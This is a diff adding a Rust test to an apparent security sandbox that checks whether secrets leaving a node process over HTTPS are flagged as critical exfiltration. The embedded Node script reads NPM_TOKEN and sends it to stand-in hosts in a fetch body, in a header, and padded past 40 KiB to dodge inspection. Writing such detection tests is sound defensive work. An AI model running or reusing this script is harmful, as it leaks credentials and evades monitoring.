@@ -233,3 +233,54 @@ print(len(sent))
         .sum();
     assert_eq!(seen, sent, "every datagram is recorded: {r:#}");
 }
+
+/// A secret in what node sends over HTTPS is a critical exfiltration wherever it is in the
+/// request: in a fetch body or header (fetch's bodies were not looked at), and past the first
+/// 16 KiB of a request body (only that much was kept). The preload reads them before
+/// encryption; the sinkhole sees only the TLS handshake.
+#[test]
+fn a_secret_deep_in_an_https_request_is_an_exfiltration() {
+    if !require_userns() {
+        return;
+    }
+    let ctx = TestContext::new();
+    let report = ctx.root().join("r.json");
+    let script = r#"
+        const https = require('https');
+        const token = process.env.NPM_TOKEN;
+        fetch('https://fetch-body.example/upload', { method: 'POST', body: JSON.stringify({ t: token }) })
+          .catch(() => {});
+        fetch('https://fetch-header.example/', { headers: { authorization: `Bearer ${token}` } })
+          .catch(() => {});
+        const req = https.request({ host: 'padded.example', method: 'POST', path: '/p' });
+        req.on('error', () => {});
+        req.end(' '.repeat(40 << 10) + token);
+        setTimeout(() => {}, 1500);
+    "#;
+    let out = ctx.run(
+        &["--report", report.to_str().unwrap()],
+        &["node", "-e", script],
+    );
+    assert_eq!(out.status.code(), Some(0), "{}", show(&out));
+    let v: serde_json::Value = crate::report::json(&report);
+    let findings = v["runs"][0]["findings"].as_array().unwrap();
+    for target in [
+        "fetch-body.example:443",
+        "fetch-header.example:443",
+        "padded.example:443",
+    ] {
+        assert!(
+            findings.iter().any(|f| f["kind"] == "exfiltration"
+                && f["severity"] == "critical"
+                && f["target"] == target),
+            "{target}: {findings:#?}"
+        );
+        // Not also "nothing secret was seen" about the same destination.
+        assert!(
+            !findings
+                .iter()
+                .any(|f| f["kind"] == "network-attempt" && f["target"] == target),
+            "{target}: {findings:#?}"
+        );
+    }
+}
